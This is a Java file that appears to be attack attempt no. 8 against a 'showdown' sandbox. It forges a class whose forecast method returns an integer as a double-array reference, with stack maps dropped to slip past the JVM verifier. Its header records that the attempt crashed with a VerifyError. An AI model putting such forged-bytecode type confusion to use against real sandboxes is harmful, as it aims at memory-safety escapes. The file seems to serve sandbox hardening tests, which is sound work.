// attack: 8
// verdict: crashed
// message: VerifyError
import module java.base;
import org.showdown.sandbox.Forge;
import java.lang.classfile.ClassFile;

public class Forged {
    public static byte[] file() throws Exception {
        var entries = Forge.jar();
        ClassDesc self = ClassDesc.of("Good");
        ClassDesc array = ConstantDescs.CD_double.arrayType();
        byte[] evil = ClassFile.of(ClassFile.StackMapsOption.DROP_STACK_MAPS).build(self, type -> type
                .withFlags(AccessFlag.PUBLIC)
                .withInterfaceSymbols(ClassDesc.of("org.showdown.forecaster.VolatilityForecaster"))
                .withMethodBody("<init>", ConstantDescs.MTD_void, ClassFile.ACC_PUBLIC, code -> code
                        .aload(0)
                        .invokespecial(ConstantDescs.CD_Object, "<init>", ConstantDescs.MTD_void)
                        .return_())
                // A number returned as if it were the address of an array.
                .withMethodBody("forecast", MethodTypeDesc.of(array, ClassDesc.of("org.showdown.forecaster.History"), ConstantDescs.CD_int), ClassFile.ACC_PUBLIC, code -> code
                        .iload(2)
                        .areturn()));
        entries.put("Good.class", evil);
        return Forge.zip(entries);
    }
}
